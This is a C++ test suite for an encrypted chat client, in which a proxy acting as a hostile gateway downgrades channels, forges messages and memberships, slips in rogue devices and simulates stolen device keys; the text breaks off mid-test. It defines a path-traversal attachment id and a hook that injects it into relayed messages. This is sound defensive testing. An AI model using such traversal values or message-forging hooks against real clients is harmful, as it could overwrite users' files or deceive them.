// The hostile gateway (issue 16): the real hchat-gateway behind tests/support/GatewayProxy, which
// plays a gateway (or a man in the middle) that rewrites what it relays. Each test is one attack
// and proves the client refuses it: what the client stored and showed, and what it put on the wire.
#include "E2eeTestHelpers.h"
#include "ProtocolClient.h"
#include "ProxiedGatewaySuite.h"

#include "AttachmentInfo.h"
#include "AttachmentTransfers.h"
#include "crypto/DeviceList.h"
#include "crypto/KeyShare.h"
#include "crypto/PrekeyStore.h"
#include "crypto/SenderSession.h"

#include <QCryptographicHash>
#include <QDirIterator>
#include <QFile>
#include <QRegularExpression>
#include <QSignalSpy>

#include <sodium.h>

using namespace hchat;
using namespace hchat::test;

namespace {

// 32 characters, as long as an upload id: from <profile>/attachments it climbs to the home folder
// when the profile lives at ~/.local/share/hchat/<profile>.
const QByteArray kTraversalId = QByteArrayLiteral("../../../../../././././././././.");

// Every file and folder under root with its size and a hash of its content, except the folders
// the client owns (its profile).
QMap<QString, QByteArray> listing(const QString &root, const QString &except)
{
    QMap<QString, QByteArray> out;
    QDirIterator it(root, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        if (path == except || path.startsWith(except + QLatin1Char('/')))
            continue;
        const QFileInfo fi = it.fileInfo();
        QByteArray entry = fi.isDir() ? QByteArrayLiteral("dir") : QByteArray::number(fi.size());
        QFile f(path);
        if (fi.isFile() && f.open(QIODevice::ReadOnly))
            entry += ' ' + QCryptographicHash::hash(f.readAll(), QCryptographicHash::Sha256).toHex();
        out.insert(QDir(root).relativeFilePath(path), entry);
    }
    return out;
}

// Rewrites a relayed message's attachment id, in the message and (plain channels) its content.
bool poisonAttachment(hchat::v1::Message *m)
{
    if (m->kind() != hchat::v1::MESSAGE_KIND_ATTACHMENT || m->attachment_id().empty())
        return false;
    m->set_attachment_id(kTraversalId.toStdString());
    hchat::v1::AttachmentContent c;
    if (!m->encrypted() && c.ParseFromString(m->body())) {
        c.set_attachment_id(kTraversalId.toStdString());
        m->set_body(c.SerializeAsString());
    }
    return true;
}

QByteArray serialized(const google::protobuf::MessageLite &m)
{
    const std::string s = m.SerializeAsString();
    return QByteArray(s.data(), qsizetype(s.size()));
}

// The row of channel in c's history with kind and subject (0: none).
quint64 rowOf(const TestClient &c, const QString &channel, MessageKind kind, const QString &subject = {})
{
    for (quint64 seq = c.store()->maxSeq(channel); seq > 0; --seq) {
        const auto m = c.store()->message(channel, seq);
        if (m && m->kind == kind &&
            (subject.isEmpty() || m->subject.compare(subject, Qt::CaseInsensitive) == 0))
            return seq;
    }
    return 0;
}

// Rewrites each message of a sync answer (a pull) with edit; other answers stay as they are.
template <typename Edit> void rewriteSync(int status, QByteArray &body, Edit edit)
{
    hchat::v1::SyncResponse r;
    if (status != 200 || !r.ParseFromArray(body.constData(), int(body.size())))
        return;
    for (auto &m : *r.mutable_messages())
        edit(m);
    body = serialized(r);
}

// Every ChannelInfo of channel in a frame from the gateway claims an open, unencrypted channel.
GatewayProxy::FrameHook downgrade(const QString &channel)
{
    return [channel](const hchat::v1::Frame &f, QByteArray &bytes) {
        hchat::v1::Frame copy = f;
        bool changed = false;
        auto plain = [&](hchat::v1::ChannelInfo *info) {
            if (QString::fromStdString(info->name()) != channel)
                return;
            info->set_kind(hchat::v1::CHANNEL_KIND_OPEN);
            info->set_encrypted(false);
            info->clear_members();
            changed = true;
        };
        if (copy.has_welcome())
            for (auto &info : *copy.mutable_welcome()->mutable_channels())
                plain(&info);
        if (copy.has_channel_joined())
            plain(copy.mutable_channel_joined()->mutable_channel());
        if (!changed)
            return GatewayProxy::Verdict::Pass;
        bytes = serialized(copy);
        return GatewayProxy::Verdict::Replace;
    };
}

} // namespace

class HostileGateway : public ProxiedGatewaySuite {
    Q_OBJECT
public:
    HostileGateway() : ProxiedGatewaySuite({QStringLiteral("--rate-limit"), QStringLiteral("0")}) {}

private:
    QTemporaryDir m_files{scratchRoot() + QStringLiteral("/hostile-files-XXXXXX")};

    // A client whose profile lives where a desktop user's does: <home>/.local/share/hchat/<nick>.
    struct HomeClient {
        std::unique_ptr<QTemporaryDir> sandbox;
        QString home;
        QString profile;
        std::unique_ptr<TestClient> client;
    };
    HomeClient homeClient(const QString &nick, const QUrl &wsUrl)
    {
        HomeClient h;
        h.sandbox = std::make_unique<QTemporaryDir>(scratchRoot() + QStringLiteral("/hostile-home-XXXXXX"));
        h.home = h.sandbox->filePath(QStringLiteral("home"));
        h.profile = h.home + QStringLiteral("/.local/share/hchat/") + nick;
        QDir().mkpath(h.profile);
        QFile rc(h.home + QStringLiteral("/.bashrc"));
        if (rc.open(QIODevice::WriteOnly))
            rc.write("# the user's own shell settings\n");
        QDir().mkpath(h.home + QStringLiteral("/Documents"));
        QFile doc(h.home + QStringLiteral("/Documents/thesis.txt"));
        if (doc.open(QIODevice::WriteOnly))
            doc.write("years of work\n");
        h.client = std::make_unique<TestClient>(h.profile);
        h.client->connectTo({wsUrl}, HttpTestApi(m_gw->httpUrl()).account(nick));
        if (!h.client->waitOnline())
            qWarning() << nick << "did not come online";
        return h;
    }

    // Alice and Bob share the encrypted channel ch; both hold keys. One of them is behind the
    // hostile gateway (Bob unless said otherwise).
    enum class Behind { Bob, Alice };
    std::pair<std::unique_ptr<TestClient>, std::unique_ptr<TestClient>>
    encryptedPair(const QString &ch, Behind behind = Behind::Bob)
    {
        auto alice = e2eeUser(*m_gw, QStringLiteral("alice-") + ch, {},
                              behind == Behind::Alice ? m_proxy->wsUrl() : QUrl());
        auto bob = e2eeUser(*m_gw, QStringLiteral("bob-") + ch, {},
                            behind == Behind::Bob ? m_proxy->wsUrl() : QUrl());
        if (!alice->run((*alice)->createChannel(ch, ChannelRecord::Kind::InviteOnly,
                                                {QStringLiteral("bob-") + ch})) ||
            !acceptInvitation(*bob, ch))
            qWarning() << "could not create" << ch;
        QDeadlineTimer d(20000);
        while (!d.hasExpired() &&
               !((*bob)->crypto()->members(ch).size() == 2 && (*alice)->crypto()->members(ch).size() == 2 &&
                 knowsKeysOf(*alice, {QStringLiteral("bob-") + ch}) &&
                 knowsKeysOf(*bob, {QStringLiteral("alice-") + ch})))
            QTest::qWait(20);
        return {std::move(alice), std::move(bob)};
    }

private slots:
    void initTestCase()
    {
        QVERIFY(sodium_init() >= 0);
        QVERIFY(startGatewayAndProxy());
    }

    // The gateway tells Bob's client, in the Welcome of a reconnect and in a ChannelJoined, that
    // an encrypted channel is an open, unencrypted one: the channel stays encrypted for good, and
    // what Bob types there leaves his device only as ciphertext (checked on the wire).
    void downgradeOfAnEncryptedChannelIsRefused()
    {
        const QString ch = QStringLiteral("downgrade");
        auto [alice, bob] = encryptedPair(ch);
        QVERIFY(bob->store()->channel(ch)->encrypted);
        m_proxy->setFrameHook(downgrade(ch));
        const int connections = m_proxy->clientConnections();
        m_proxy->dropAllClients(); // the reconnect's Welcome says "open, plain"
        QTRY_VERIFY_WITH_TIMEOUT(m_proxy->clientConnections() > connections && m_proxy->replacedFrames() > 0,
                                 20000);
        QVERIFY(bob->waitOnline(20000));
        const auto rec = bob->store()->channel(ch);
        QVERIFY(rec->encrypted);
        QCOMPARE(rec->kind, ChannelRecord::Kind::InviteOnly);
        m_proxy->clearClientWire();
        const QString secret = QStringLiteral("the vault code is 4711-zebra");
        const quint64 seq = sendAndWait(*bob, ch, secret);
        QVERIFY(seq > 0);
        QVERIFY(!m_proxy->clientWire().contains(secret.toUtf8()));
        QVERIFY(bob->store()->message(ch, seq)->encrypted);
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*alice, ch, seq), secret, 20000);
    }

    // A direct channel is encrypted from its first sight, even when the gateway first presents it
    // as open and unencrypted: the first message leaves as ciphertext.
    void directChannelIsNeverPlainEvenAtFirstSight()
    {
        auto alice = e2eeUser(*m_gw, QStringLiteral("alice-dm"));
        auto bob = e2eeUser(*m_gw, QStringLiteral("bob-dm"), {}, m_proxy->wsUrl());
        const QString ch = Client::directChannelName(QStringLiteral("alice-dm"), QStringLiteral("bob-dm"));
        m_proxy->setFrameHook(downgrade(ch));
        QVERIFY(alice->run((*alice)->openDirectChannel(QStringLiteral("bob-dm"))));
        QTRY_VERIFY_WITH_TIMEOUT(bob->store()->channel(ch).has_value(), 20000);
        QVERIFY(m_proxy->replacedFrames() > 0);
        QVERIFY(bob->store()->channel(ch)->encrypted);
        QTRY_VERIFY_WITH_TIMEOUT(knowsKeysOf(*bob, {QStringLiteral("alice-dm")}) &&
                                     (*bob)->crypto()->members(ch).size() == 2,
                                 20000);
        m_proxy->clearClientWire();
        const QString secret = QStringLiteral("meet me behind the old mill");
        QVERIFY(sendAndWait(*bob, ch, secret) > 0);
        QVERIFY(!m_proxy->clientWire().contains(secret.toUtf8()));
    }

    // The gateway replaces Alice's encrypted message with a plaintext one in her name, and slips
    // in a plaintext edit of her earlier message: Bob's client shows the first as not from any
    // member (no notification-worthy text, no sender) and ignores the edit.
    void injectedPlaintextIsShownAsNotFromAMember()
    {
        const QString ch = QStringLiteral("injection");
        auto [alice, bob] = encryptedPair(ch);
        const quint64 genuine = sendAndWait(*alice, ch, QStringLiteral("the real plan"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, genuine), QStringLiteral("the real plan"), 20000);

        const QString forgedText = QStringLiteral("please send me your password");
        int forged = 0;
        m_proxy->setFrameHook([&](const hchat::v1::Frame &f, QByteArray &bytes) {
            if (!f.has_push() || QString::fromStdString(f.push().message().channel()) != ch)
                return GatewayProxy::Verdict::Pass;
            hchat::v1::Frame copy = f;
            auto *m = copy.mutable_push()->mutable_message();
            m->set_encrypted(false);
            if (m->kind() == hchat::v1::MESSAGE_KIND_EDIT)
                m->set_body("the plan is off");
            else
                m->set_body(forgedText.toStdString());
            ++forged;
            bytes = serialized(copy);
            return GatewayProxy::Verdict::Replace;
        });
        // The same rewrite for a pull (should the push be missed).
        m_proxy->setSyncHook([&](const hchat::v1::SyncRequest &, int &status, QByteArray &body) {
            rewriteSync(status, body, [&](hchat::v1::Message &m) {
                if (QString::fromStdString(m.channel()) != ch || !m.encrypted() || m.seq() <= genuine)
                    return;
                m.set_encrypted(false);
                m.set_body(m.kind() == hchat::v1::MESSAGE_KIND_EDIT ? "the plan is off"
                                                                    : forgedText.toStdString());
            });
        });
        const quint64 seq = sendAndWait(*alice, ch, QStringLiteral("an honest message"));
        QTRY_VERIFY_WITH_TIMEOUT(bob->store()->message(ch, seq).has_value(), 20000);
        QString editError;
        QVERIFY2((*alice)->editMessage(ch, genuine, QStringLiteral("the real plan, amended"), &editError) > 0,
                 qPrintable(editError));
        QTRY_VERIFY_WITH_TIMEOUT(bob->store()->maxSeq(ch) >= seq + 1, 20000);
        QVERIFY(forged >= 1);

        const auto shown = bob->store()->message(ch, seq);
        QVERIFY(shown->isUnencryptedForgery());
        QCOMPARE(shown->cryptoState, StoredMessage::CryptoState::Undecryptable);
        QVERIFY(shown->cryptoReason.contains(QStringLiteral("not by a member")));
        QVERIFY(shown->plainText.isEmpty());
        // Not searchable as text either.
        QVERIFY((*bob)->search(QStringLiteral("password")).isEmpty());
        // The plaintext "edit" changed nothing.
        QTest::qWait(300);
        QCOMPARE(shownText(*bob, ch, genuine), QStringLiteral("the real plan"));
        QCOMPARE(bob->store()->message(ch, genuine)->editSeq, quint64(0));
    }

    // Mallory is added by the gateway's request alone, with no member's signed invitation (what a
    // hostile gateway writing a MEMBER_ADDED row amounts to): every member's client shows a warning
    // on that row, Mallory counts as no member, and no key share goes to her devices.
    void forgedMemberAddedGetsNoKeyShareAndShowsAWarning()
    {
        const QString ch = QStringLiteral("forged-add");
        auto [alice, bob] = encryptedPair(ch);
        auto mallory = e2eeUser(*m_gw, QStringLiteral("mallory-fa"));
        QSignalSpy warnings(bob->client.get(), &Client::encryptionWarning);
        ProtocolClient raw(*m_gw);
        raw.token = alice->token;
        QVERIFY(raw.connectAndHello());
        hchat::v1::Frame invite;
        invite.mutable_invite()->set_channel(ch.toStdString());
        invite.mutable_invite()->set_nick("mallory-fa");
        const auto answer = raw.request(invite);
        QVERIFY(answer && !answer->has_error());

        quint64 added = 0;
        QTRY_VERIFY_WITH_TIMEOUT(
            (added = rowOf(*bob, ch, MessageKind::MemberAdded, QStringLiteral("mallory-fa"))) > 0 &&
                bob->store()->message(ch, added)->cryptoState == StoredMessage::CryptoState::Undecryptable,
            20000);
        QVERIFY(bob->store()->message(ch, added)->cryptoReason.contains(
            QStringLiteral("without a signed invitation")));
        QVERIFY(!warnings.isEmpty());
        QVERIFY(!(*bob)->crypto()->isMember(ch, QStringLiteral("mallory-fa")));
        QVERIFY(!(*alice)->crypto()->isMember(ch, QStringLiteral("mallory-fa")));
        QVERIFY((*mallory)->invitationFrom(ch).isEmpty()); // nothing for her to accept either

        // Alice's next message: shares for Bob's device, none for Mallory's, whose client (which
        // the gateway now delivers to) cannot read it.
        QTRY_VERIFY_WITH_TIMEOUT(knowsKeysOf(*alice, {QStringLiteral("mallory-fa")}), 20000);
        const quint64 seq = sendAndWait(*alice, ch, QStringLiteral("not for mallory"));
        QVERIFY(seq > 0);
        QVERIFY(alice->store()->outbox(QLatin1Char('~') + (*mallory)->deviceId()).isEmpty());
        QTRY_VERIFY_WITH_TIMEOUT(mallory->store()->maxSeq(ch) >= seq, 20000);
        QTest::qWait(300);
        QVERIFY(shownText(*mallory, ch, seq).isEmpty());
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, seq), QStringLiteral("not for mallory"), 20000);
    }

    // A direct channel has its two people for ever: an invitation of a third, even one properly
    // signed by one of the two, is refused by the other's client (and the gateway refuses the
    // request as well).
    void thirdMemberInADirectChannelIsRefused()
    {
        auto alice = e2eeUser(*m_gw, QStringLiteral("alice-dm3"));
        auto bob = e2eeUser(*m_gw, QStringLiteral("bob-dm3"), {}, m_proxy->wsUrl());
        auto carol = e2eeUser(*m_gw, QStringLiteral("carol-dm3"));
        QString dm;
        QVERIFY(alice->run((*alice)->openDirectChannel(QStringLiteral("bob-dm3"), &dm)));
        QTRY_COMPARE_WITH_TIMEOUT((*bob)->crypto()->members(dm).size(), 2, 20000);
        QString error;
        QVERIFY(!alice->run((*alice)->invite(dm, QStringLiteral("carol-dm3")), &error));
        QVERIFY(!error.isEmpty());

        const QByteArray add = (*alice)->crypto()->makeMembershipOp(dm, crypto::MembershipOp::Action::Add,
                                                                    QStringLiteral("carol-dm3"));
        QVERIFY(!add.isEmpty());
        ProtocolClient raw(*m_gw);
        raw.token = alice->token;
        QVERIFY(raw.connectAndHello());
        hchat::v1::Frame send;
        send.mutable_send()->set_channel(dm.toStdString());
        send.mutable_send()->set_client_msg_id(Outbox::newClientMsgId().toStdString());
        send.mutable_send()->set_kind(hchat::v1::MESSAGE_KIND_MEMBERSHIP);
        send.mutable_send()->set_body(add.toStdString());
        const auto answer = raw.request(send);
        QVERIFY(answer && answer->has_send_ack());
        const quint64 seq = answer->send_ack().seq();
        QTRY_VERIFY_WITH_TIMEOUT(bob->store()->message(dm, seq).has_value() &&
                                     bob->store()->message(dm, seq)->cryptoState ==
                                         StoredMessage::CryptoState::Undecryptable,
                                 20000);
        QVERIFY(bob->store()->message(dm, seq)->cryptoReason.contains(QStringLiteral("direct channel")));
        QCOMPARE((*bob)->crypto()->members(dm),
                 (QStringList{QStringLiteral("alice-dm3"), QStringLiteral("bob-dm3")}));
        QVERIFY(!(*bob)->crypto()->membership(dm)->isInvited(QStringLiteral("carol-dm3")));
        QVERIFY((*carol)->invitationFrom(dm).isEmpty());
    }

    // Carol joins after Alice has written: with every key she receives she can open none of the
    // earlier messages, even when the gateway hands her their ciphertext (the session rotated
    // when she joined, and a chain handed on at index i derives nothing before i).
    void memberAddedLaterCannotDecryptEarlierMessages()
    {
        const QString ch = QStringLiteral("latecomer");
        auto [alice, bob] = encryptedPair(ch);
        QList<quint64> earlier;
        for (int i = 0; i < 3; ++i)
            earlier << sendAndWait(*alice, ch, QStringLiteral("before carol %1").arg(i));
        QVERIFY(!earlier.contains(0));
        auto carol = e2eeUser(*m_gw, QStringLiteral("carol-late"));
        QVERIFY(alice->run((*alice)->invite(ch, QStringLiteral("carol-late"))));
        QVERIFY(acceptInvitation(*carol, ch));
        QTRY_VERIFY_WITH_TIMEOUT((*alice)->crypto()->isMember(ch, QStringLiteral("carol-late")) &&
                                     knowsKeysOf(*alice, {QStringLiteral("carol-late")}),
                                 20000);
        const quint64 after = sendAndWait(*alice, ch, QStringLiteral("welcome, carol"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*carol, ch, after), QStringLiteral("welcome, carol"), 20000);
        for (quint64 seq : earlier) {
            const auto m = alice->store()->message(ch, seq);
            QVERIFY(m && m->encrypted);
            const auto in = (*carol)->crypto()->decryptMessage(*m);
            QVERIFY(in.state != crypto::ChannelCrypto::DisplayState::Decrypted);
            QVERIFY(in.plaintext.isEmpty());
            crypto::MessageCrypto::Header h;
            QVERIFY(crypto::MessageCrypto::peekHeader(m->body, &h));
            const crypto::SenderSession *held =
                (*carol)->crypto()->senderKeys().inbound(ch, (*alice)->deviceId(), h.sessionId);
            unsigned char key[32];
            QVERIFY(!held || !held->messageKey(h.index, key));
        }
    }

    // Bob revokes his second device: once Alice's client learns it (its next key fetch), the
    // revoked device gets no new session and Alice's sender session rotates.
    void revokedDeviceReceivesNoNewSessionAndOthersRotate()
    {
        const QString ch = QStringLiteral("revocation");
        auto [alice, bob] = encryptedPair(ch);
        auto bobLaptop = e2eeUser(*m_gw, QStringLiteral("bob-") + ch);
        const QString laptop = (*bobLaptop)->deviceId();
        QVERIFY(alice->run((*alice)->fetchKeys({QStringLiteral("bob-") + ch})));
        QVERIFY((*alice)->acceptDevice(QStringLiteral("bob-") + ch, laptop)); // Bob's new device, accepted
        const quint64 first = sendAndWait(*alice, ch, QStringLiteral("to both of bob's devices"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bobLaptop, ch, first),
                                  QStringLiteral("to both of bob's devices"), 20000);
        const QString laptopInbox = QLatin1Char('~') + laptop;
        const auto sharesBefore = alice->store()->outbox(laptopInbox).size();
        QCOMPARE(sharesBefore, 1);
        crypto::MessageCrypto::Header h1;
        QVERIFY(crypto::MessageCrypto::peekHeader(alice->store()->message(ch, first)->body, &h1));

        QVERIFY(bob->run((*bob)->revokeDevice(laptop)));
        QVERIFY(alice->run((*alice)->fetchKeys({QStringLiteral("bob-") + ch})));
        QCOMPARE((*alice)->crypto()->trust().state(QStringLiteral("bob-") + ch, laptop),
                 crypto::TrustStore::State::Revoked);
        const quint64 second = sendAndWait(*alice, ch, QStringLiteral("after the laptop was lost"));
        QVERIFY(second > 0);
        crypto::MessageCrypto::Header h2;
        QVERIFY(crypto::MessageCrypto::peekHeader(alice->store()->message(ch, second)->body, &h2));
        QVERIFY(h2.sessionId != h1.sessionId);                              // rotated
        QCOMPARE(alice->store()->outbox(laptopInbox).size(), sharesBefore); // nothing new for it
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, second), QStringLiteral("after the laptop was lost"),
                                  20000);
        // The laptop's key material opens nothing new, even handed the ciphertext.
        const auto in = (*bobLaptop)->crypto()->decryptMessage(*alice->store()->message(ch, second));
        QVERIFY(in.state != crypto::ChannelCrypto::DisplayState::Decrypted);
    }

    // Someone steals Bob's device secrets (his identity key and a copy of his whole profile) after
    // he has read Alice's message. The key share that carried her session was sealed to one of his
    // one-time prekeys, whose secret his device deleted once it had kept the session: nothing the
    // thief holds opens that share, and the gateway no longer keeps it (Bob acknowledged his inbox).
    // For contrast, a share sealed to the device key alone (what HChat did before) opens.
    void stolenDeviceSecretOpensNoShareSentBefore()
    {
        const QString ch = QStringLiteral("forward-secrecy");
        auto [alice, bob] = encryptedPair(ch);
        const QString bobNick = QStringLiteral("bob-") + ch;
        const QString bobDevice = (*bob)->deviceId();
        QTRY_VERIFY_WITH_TIMEOUT((*alice)->crypto()->prekeys().claimed(bobNick, bobDevice).has_value(),
                                 20000);
        const quint32 prekeyId = (*alice)->crypto()->prekeys().claimed(bobNick, bobDevice)->keyId;
        QVERIFY(!(*bob)->crypto()->prekeys().secret(prekeyId).isNull());

        const QString secret = QStringLiteral("the boat leaves at dawn");
        const quint64 seq = sendAndWait(*alice, ch, secret);
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, seq), secret, 20000);
        const QString inbox = QLatin1Char('~') + bobDevice;
        std::optional<StoredMessage> share;
        for (const StoredMessage &m : bob->store()->page(inbox, 1, bob->store()->maxSeq(inbox)))
            if (m.kind == MessageKind::KeyShare && crypto::KeyShare::peekPrekeyId(m.body) == prekeyId)
                share = m;
        QVERIFY2(share, "no key share sealed to the claimed prekey reached Bob");
        QVERIFY((*bob)->crypto()->prekeys().secret(prekeyId).isNull());

        // The theft.
        QTemporaryDir loot(scratchRoot() + QStringLiteral("/loot-XXXXXX"));
        const QString profile = bob->dir->path();
        for (const QString &name : QDir(profile).entryList(QDir::Files | QDir::Hidden))
            QVERIFY(QFile::copy(profile + QLatin1Char('/') + name, loot.filePath(name)));
        auto stolen = crypto::DeviceIdentity::fromSecret((*bob)->crypto()->identity()->exportSecret().view());
        QVERIFY(stolen);
        crypto::PrekeyStore stolenPrekeys;
        QVERIFY(
            stolenPrekeys.open(loot.filePath(QStringLiteral("prekeys.sqlite")), stolen->deriveStorageKey()));
        QVERIFY(stolenPrekeys.ownCount() > 0); // the unused ones are there, and open nothing here
        const QByteArray aliceKey = (*alice)->crypto()->identity()->identityKey();
        const crypto::IdentityKeyLookup aliceKnown = [&](const QString &, const QString &) {
            return aliceKey;
        };
        const auto opened =
            crypto::KeyShare::open(share->body, *stolen, bobNick, bobDevice, aliceKnown, share->sender,
                                   share->senderDevice, [&](quint32 id) { return stolenPrekeys.secret(id); });
        QCOMPARE(opened.error, crypto::KeyShare::Error::PrekeyUnknown);
        // Every prekey secret left in the loot, tried on the share: none opens it.
        for (quint32 id = 1; id <= prekeyId + crypto::ChannelCrypto::kPrekeyTarget; ++id) {
            const auto attempt =
                crypto::KeyShare::open(share->body, *stolen, bobNick, bobDevice, aliceKnown, {}, {},
                                       [&](quint32) { return stolenPrekeys.secret(id); });
            QVERIFY(!attempt.ok());
        }
        auto later = crypto::SenderSession::create(ch);
        const QByteArray oldStyle =
            crypto::KeyShare::seal(*later, *(*alice)->crypto()->identity(), share->sender,
                                   share->senderDevice, {bobNick, bobDevice, stolen->identityKey()});
        QVERIFY(crypto::KeyShare::open(oldStyle, *stolen, bobNick, bobDevice, aliceKnown).ok());

        // The gateway deleted the share once Bob's device had it.
        ProtocolClient asBob(*m_gw);
        asBob.token = bob->token;
        QTRY_VERIFY_WITH_TIMEOUT(asBob.sync(inbox, 1).acknowledged_seq() >= share->seq, 20000);
        const hchat::v1::SyncResponse left = asBob.sync(inbox, 1);
        for (const auto &m : left.messages())
            QVERIFY(m.seq() > share->seq);
    }

    // Bob signs in on a laptop. It waits for approval and shows a code; Bob's desktop shows the
    // same code and, once Bob confirms it, puts the laptop on his signed device list. Alice's
    // client (behind the hostile gateway) then trusts the laptop without asking her, and the laptop
    // reads her next message. A wrong code approves nothing.
    void newDeviceApprovedByCodeIsTrustedByPeers()
    {
        const QString ch = QStringLiteral("approval");
        const QString bobNick = QStringLiteral("bob-") + ch;
        auto [alice, bob] = encryptedPair(ch);
        QTRY_COMPARE_WITH_TIMEOUT((*bob)->deviceApprovalState(), DeviceApproval::State::Approved, 20000);
        QSignalSpy asked(bob->client.get(), &Client::deviceAwaitsApproval);
        auto laptop = e2eeUser(*m_gw, bobNick, {}, m_proxy->wsUrl());
        const QString laptopId = (*laptop)->deviceId();
        QTRY_COMPARE_WITH_TIMEOUT((*laptop)->deviceApprovalState(), DeviceApproval::State::Waiting, 20000);
        const QString code = (*laptop)->deviceApprovalCode();
        QTRY_VERIFY_WITH_TIMEOUT(!asked.isEmpty(), 20000); // told by the gateway's DevicesChanged
        QCOMPARE(asked.last().at(0).toString(), laptopId);
        QCOMPARE(asked.last().at(1).toString(), code);
        QCOMPARE((*bob)->devicesAwaitingApproval(), QStringList{laptopId});

        // Alice does not trust it yet: nothing is shared with it.
        QVERIFY(alice->run((*alice)->fetchKeys({bobNick})));
        QCOMPARE((*alice)->crypto()->trust().state(bobNick, laptopId), crypto::TrustStore::State::NewDevice);

        QString error;
        QVERIFY(
            !bob->run((*bob)->approveDevice(laptopId, QStringLiteral("00000 00000 00000 00000")), &error));
        QVERIFY2(error.contains(QStringLiteral("code")), qPrintable(error));
        QVERIFY(bob->run((*bob)->approveDevice(laptopId, code), &error));
        QTRY_COMPARE_WITH_TIMEOUT((*laptop)->deviceApprovalState(), DeviceApproval::State::Approved, 20000);
        QVERIFY(alice->run((*alice)->fetchKeys({bobNick})));
        QCOMPARE((*alice)->crypto()->trust().state(bobNick, laptopId), crypto::TrustStore::State::Trusted);
        QCOMPARE((*alice)->crypto()->deviceList(bobNick)->generation(), 2u);
        const quint64 seq = sendAndWait(*alice, ch, QStringLiteral("hello, bob's laptop"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*laptop, ch, seq), QStringLiteral("hello, bob's laptop"), 20000);
    }

    // Bob revokes his laptop: his desktop signs a list without it. The hostile gateway keeps
    // listing the laptop's keys to Alice, as if nothing happened; Alice's client follows Bob's
    // signed word: the laptop is revoked, her session rotates and the laptop gets no new key.
    void signedRevocationHoldsWhenTheDirectoryKeepsTheDevice()
    {
        const QString ch = QStringLiteral("signed-revocation");
        const QString bobNick = QStringLiteral("bob-") + ch;
        auto [alice, bob] = encryptedPair(ch, Behind::Alice);
        QTRY_COMPARE_WITH_TIMEOUT((*bob)->deviceApprovalState(), DeviceApproval::State::Approved, 20000);
        auto laptop = e2eeUser(*m_gw, bobNick);
        const QString laptopId = (*laptop)->deviceId();
        QTRY_VERIFY_WITH_TIMEOUT((*bob)->devicesAwaitingApproval().contains(laptopId), 20000);
        QVERIFY(bob->run((*bob)->approveDevice(laptopId, (*laptop)->deviceApprovalCode())));
        QTRY_VERIFY_WITH_TIMEOUT(
            ((*alice)->fetchKeys({bobNick}),
             (*alice)->crypto()->trust().state(bobNick, laptopId) == crypto::TrustStore::State::Trusted),
            20000);
        QTRY_VERIFY_WITH_TIMEOUT((*alice)->crypto()->isMember(ch, bobNick), 20000);
        const quint64 first = sendAndWait(*alice, ch, QStringLiteral("for both of bob's devices"));
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*laptop, ch, first), QStringLiteral("for both of bob's devices"),
                                  20000);

        // From now on every key directory answer to Alice still holds the laptop.
        hchat::v1::DeviceKeys laptopRecord;
        (*laptop)->crypto()->identity()->fillDeviceKeys(&laptopRecord, bobNick, laptopId);
        m_proxy->setResponseHook(
            [&](const QByteArray &, const QByteArray &path, int &status, QByteArray &body) {
                hchat::v1::KeysResponse keys;
                if (path != "/v1/keys/fetch" || status != 200 ||
                    !keys.ParseFromArray(body.constData(), int(body.size())))
                    return;
                bool listed = false;
                for (const auto &d : keys.devices())
                    listed = listed || d.device_id() == laptopRecord.device_id();
                const bool aboutBob =
                    std::any_of(keys.devices().begin(), keys.devices().end(), [&](const auto &d) {
                        return QString::fromStdString(d.nick()).compare(bobNick, Qt::CaseInsensitive) == 0;
                    });
                if (!listed && aboutBob)
                    *keys.add_devices() = laptopRecord;
                body = serialized(keys);
            });
        QVERIFY(bob->run((*bob)->revokeDevice(laptopId)));
        QVERIFY(alice->run((*alice)->fetchKeys({bobNick})));
        QCOMPARE((*alice)->crypto()->deviceList(bobNick)->generation(), 3u);
        QCOMPARE((*alice)->crypto()->trust().state(bobNick, laptopId), crypto::TrustStore::State::Revoked);
        const QString laptopInbox = QLatin1Char('~') + laptopId;
        const qsizetype sharesBefore = alice->store()->outbox(laptopInbox).size();
        crypto::MessageCrypto::Header h1, h2;
        QVERIFY(crypto::MessageCrypto::peekHeader(alice->store()->message(ch, first)->body, &h1));
        const quint64 second = sendAndWait(*alice, ch, QStringLiteral("the laptop is gone"));
        QVERIFY(crypto::MessageCrypto::peekHeader(alice->store()->message(ch, second)->body, &h2));
        QVERIFY(h2.sessionId != h1.sessionId);
        QCOMPARE(alice->store()->outbox(laptopInbox).size(), sharesBefore);
        QTRY_COMPARE_WITH_TIMEOUT(shownText(*bob, ch, second), QStringLiteral("the laptop is gone"), 20000);
    }

    // The gateway slips a device of its own into Bob's account: a directory record and a newer
    // device list naming it, signed by that device. Alice's client refuses the list, holds the
    // device as new (a warning) and shares no key with it.
    void gatewayCannotSlipADeviceIntoASignedList()
    {
        const QString ch = QStringLiteral("slipped-device");
        const QString bobNick = QStringLiteral("bob-") + ch;
        auto [alice, bob] = encryptedPair(ch, Behind::Alice);
        QTRY_COMPARE_WITH_TIMEOUT((*bob)->deviceApprovalState(), DeviceApproval::State::Approved, 20000);
        QTRY_VERIFY_WITH_TIMEOUT(
            ((*alice)->fetchKeys({bobNick}), (*alice)->crypto()->deviceList(bobNick).has_value()), 20000);
        QTRY_VERIFY_WITH_TIMEOUT((*alice)->crypto()->isMember(ch, bobNick), 20000);

        const auto rogue = crypto::DeviceIdentity::generate();
        const QString rogueId = QStringLiteral("ffffffffffffffffffffffffffffffff");
        const auto held = (*alice)->crypto()->deviceList(bobNick);
        QList<crypto::DeviceList::Entry> entries = held->devices();
        entries.append({rogueId, rogue->identityKey()});
        const auto forged =
            crypto::DeviceList::make(held->nick(), held->generation() + 1, entries, *rogue, rogueId);
        QVERIFY(forged);
        m_proxy->setResponseHook(
            [&](const QByteArray &, const QByteArray &path, int &status, QByteArray &body) {
                hchat::v1::KeysResponse keys;
                if (path != "/v1/keys/fetch" || status != 200 ||
